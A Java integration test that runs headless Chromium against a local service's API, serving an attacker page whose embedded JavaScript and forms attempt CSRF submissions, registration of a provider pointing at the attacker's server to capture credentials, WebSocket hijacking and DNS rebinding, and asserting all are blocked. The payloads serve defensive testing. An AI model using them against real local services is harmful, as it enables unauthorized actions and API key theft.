package io.comfyvn.compute.live;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.sun.net.httpserver.HttpServer;
import io.comfyvn.compute.fakes.FakeProviders;
import io.comfyvn.compute.support.Chromium;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.openqa.selenium.By;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.support.ui.WebDriverWait;

/**
 * The attacks of issue 7, in real headless Chromium against the service in live mode (the fake
 * providers standing in for the paid ones): a page on another origin tries a text/plain {@code
 * fetch}, a JSON {@code fetch}, form POSTs, registering its own provider and then an {@code <img>}
 * on {@code /api/providers/health} to catch the key, and both WebSockets; a DNS-rebound name tries
 * the API as "same origin". None succeeds: no task, no registry entry, zero creates at the fakes,
 * no request with credentials at the attacker's server.
 */
class CrossOriginAttackIT {
  @TempDir Path dir;
  private LiveHarness harness;
  private HttpServer attacker;
  private ChromeDriver browser;
  private final List<String> attackerSaw = new CopyOnWriteArrayList<>();

  @BeforeEach
  void start() throws IOException {
    harness = new LiveHarness(dir.resolve("home"));
    attacker = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
    attacker.createContext(
        "/",
        ex -> {
          String auth = ex.getRequestHeaders().getFirst("Authorization");
          attackerSaw.add(ex.getRequestURI() + (auth == null ? "" : " AUTH " + auth));
          byte[] page =
              ex.getRequestURI().getPath().equals("/attack.html")
                  ? attackPage().getBytes(StandardCharsets.UTF_8)
                  : "{}".getBytes(StandardCharsets.UTF_8);
          ex.getResponseHeaders()
              .add(
                  "Content-Type",
                  ex.getRequestURI().getPath().endsWith(".html")
                      ? "text/html"
                      : "application/json");
          ex.sendResponseHeaders(200, page.length);
          ex.getResponseBody().write(page);
          ex.close();
        });
    attacker.start();
    // attacker.test is another site; rebind.test plays DNS rebinding (it now points at loopback).
    browser =
        Chromium.start(
            dir.resolve("chrome"),
            "--host-resolver-rules=MAP attacker.test 127.0.0.1, MAP rebind.test 127.0.0.1");
  }

  @AfterEach
  void stop() throws IOException {
    if (browser != null) {
      Files.createDirectories(Path.of("target"));
      browser.quit();
    }
    if (attacker != null) {
      attacker.stop(0);
    }
    harness.close();
  }

  private int port() {
    return harness.server.port();
  }

  private String attackPage() {
    String target = "http://127.0.0.1:" + port();
    String attackerBase = "http://127.0.0.1:" + attacker.getAddress().getPort();
    String job =
        "{\\\"provider\\\":\\\"runpod\\\",\\\"seed\\\":5,\\\"job\\\":{\\\"input\\\":{\\\"prompt\\\":\\\"attack\\\"}}}";
    return """
        <!doctype html><html><body>
        <iframe name="sink1"></iframe><iframe name="sink2"></iframe>
        <form id="plain" method="POST" action="TARGET/api/providers/gpu/submit" enctype="text/plain" target="sink1">
          <input name='{"provider":"replicate","seed":6,"job":{"input":{"prompt":"form","x":"' value='"}}}'>
        </form>
        <form id="urlenc" method="POST" action="TARGET/api/providers/register" target="sink2">
          <input name="id" value="x"><input name="service" value="runpod"><input name="base_url" value="ATTACKER/">
        </form>
        <script>
        window.results = {};
        const T = "TARGET";
        const job = "JOB";
        async function attempt(name, f) {
          try { results[name] = await f(); } catch (e) { results[name] = "blocked"; }
        }
        function socket(name, url) {
          return new Promise((resolve) => {
            results[name] = "pending";
            const ws = new WebSocket(url);
            ws.onopen = () => { results[name] = "open"; ws.send('{"topics":["*"]}'); };
            ws.onmessage = () => { results[name + "_messages"] = (results[name + "_messages"] || 0) + 1; };
            ws.onerror = () => { if (results[name] !== "open") results[name] = "error"; };
            ws.onclose = () => resolve();
            setTimeout(resolve, 4000);
          });
        }
        async function run() {
          await attempt("no_cors_text", () => fetch(T + "/api/providers/gpu/submit",
            {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: job}).then(r => r.type));
          await attempt("cors_text", () => fetch(T + "/api/providers/gpu/submit",
            {method: "POST", headers: {"Content-Type": "text/plain"}, body: job}).then(r => "read " + r.status));
          await attempt("cors_json", () => fetch(T + "/api/providers/gpu/submit",
            {method: "POST", headers: {"Content-Type": "application/json"}, body: job}).then(r => "read " + r.status));
          await attempt("register", () => fetch(T + "/api/providers/register",
            {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"},
             body: JSON.stringify({id: "x", service: "runpod", base_url: "ATTACKER/", meta: {credentials: "runpod"}})}).then(r => r.type));
          await attempt("blob", () => fetch(T + "/api/providers/gpu/submit",
            {method: "POST", mode: "no-cors", body: new Blob([job])}).then(r => r.type));
          await new Promise((resolve) => {
            const img = new Image();
            img.onload = () => { results.img = "load"; resolve(); };
            img.onerror = () => { results.img = "error"; resolve(); };
            img.src = T + "/api/providers/health?id=x";
          });
          await attempt("read_jobs", () => fetch(T + "/jobs/all").then(r => r.text()));
          document.getElementById("plain").submit();
          document.getElementById("urlenc").submit();
          await socket("jobs_ws", "ws://127.0.0.1:PORT/jobs/ws");
          await socket("hooks_ws", "ws://127.0.0.1:PORT/api/modder/hooks/ws");
          results.done = true;
        }
        run();
        </script></body></html>
        """
        .replace("TARGET", target)
        .replace("ATTACKER", attackerBase)
        .replace("JOB", job)
        .replace("PORT", String.valueOf(port()));
  }

  @SuppressWarnings("unchecked")
  private Map<String, Object> attackFrom(String origin) {
    browser.get(origin + "/attack.html");
    new WebDriverWait(browser, Duration.ofSeconds(30))
        .until(
            d ->
                Boolean.TRUE.equals(
                    ((JavascriptExecutor) d).executeScript("return window.results.done === true")));
    return (Map<String, Object>)
        ((JavascriptExecutor) browser).executeScript("return window.results");
  }

  @Test
  void pagesOnOtherOriginsGetNothingDoneAndNothingRead() {
    int attackerPort = attacker.getAddress().getPort();
    for (String origin :
        List.of("http://127.0.0.1:" + attackerPort, "http://attacker.test:" + attackerPort)) {
      Map<String, Object> r = attackFrom(origin);
      assertThat(r.get("cors_text")).as(origin + " " + r).isEqualTo("blocked");
      assertThat(r.get("cors_json")).as(origin + " " + r).isEqualTo("blocked");
      assertThat(r.get("read_jobs")).as(origin + " " + r).isEqualTo("blocked");
      assertThat(r.get("img")).as(origin + " " + r).isEqualTo("error");
      assertThat(r.get("jobs_ws")).as(origin + " " + r).isNotEqualTo("open");
      assertThat(r.get("hooks_ws")).as(origin + " " + r).isNotEqualTo("open");
      assertThat(r).doesNotContainKeys("jobs_ws_messages", "hooks_ws_messages");
    }
    // The forms posted (the iframes navigated) but nothing happened.
    JsonNode jobs = harness.server.get("/jobs/all").json();
    assertThat(jobs.path("jobs").size()).as(jobs.toString()).isZero();
    for (String p :
        List.of(
            FakeProviders.RUNPOD,
            FakeProviders.REPLICATE,
            FakeProviders.HUGGINGFACE,
            FakeProviders.MODAL,
            FakeProviders.COMFYUI)) {
      assertThat(harness.fakes.stats().creates(p)).as(p + " creates").isZero();
    }
    JsonNode registry = harness.server.get("/api/providers").json();
    assertThat(registry.path("providers").findValuesAsText("id")).doesNotContain("x");
    assertThat(attackerSaw)
        .as("requests at the attacker's server")
        .allSatisfy(s -> assertThat(s).doesNotContain("AUTH"));
    assertThat(attackerSaw)
        .allSatisfy(s -> assertThat(s).matches("/(attack\\.html|favicon\\.ico)"));
  }

  @Test
  void aDnsReboundNameIsNotThisService() {
    browser.get("http://rebind.test:" + port() + "/");
    String shown = browser.findElement(By.tagName("body")).getText();
    assertThat(shown).contains("unknown_host");
    Object status =
        ((JavascriptExecutor) browser)
            .executeAsyncScript(
                "const done = arguments[arguments.length - 1];"
                    + "fetch('/api/providers/gpu/submit', {method: 'POST',"
                    + " headers: {'Content-Type': 'application/json'},"
                    + " body: JSON.stringify({provider: 'runpod', job: {input: {}}})})"
                    + ".then(r => done(r.status), e => done('blocked'));");
    assertThat(status).isEqualTo(421L);
    assertThat(harness.server.get("/jobs/all").json().path("jobs").size()).isZero();
    assertThat(harness.fakes.stats().creates(FakeProviders.RUNPOD)).isZero();
  }

  @Test
  void theServicesOwnPageStillRunsALiveJob() {
    browser.get(harness.server.base() + "/");
    WebDriverWait wait = new WebDriverWait(browser, Duration.ofSeconds(20));
    wait.until(d -> d.findElements(By.cssSelector("#providers tbody tr")).size() == 6);
    new org.openqa.selenium.support.ui.Select(browser.findElement(By.id("provider")))
        .selectByValue("runpod");
    new org.openqa.selenium.support.ui.Select(browser.findElement(By.id("mode")))
        .selectByValue("auto");
    browser.findElement(By.cssSelector("#submit-form button")).click();
    wait.until(d -> d.findElement(By.id("answer")).getText().startsWith("live task "));
    assertThat(harness.fakes.stats().creates(FakeProviders.RUNPOD)).isEqualTo(1);
  }
}
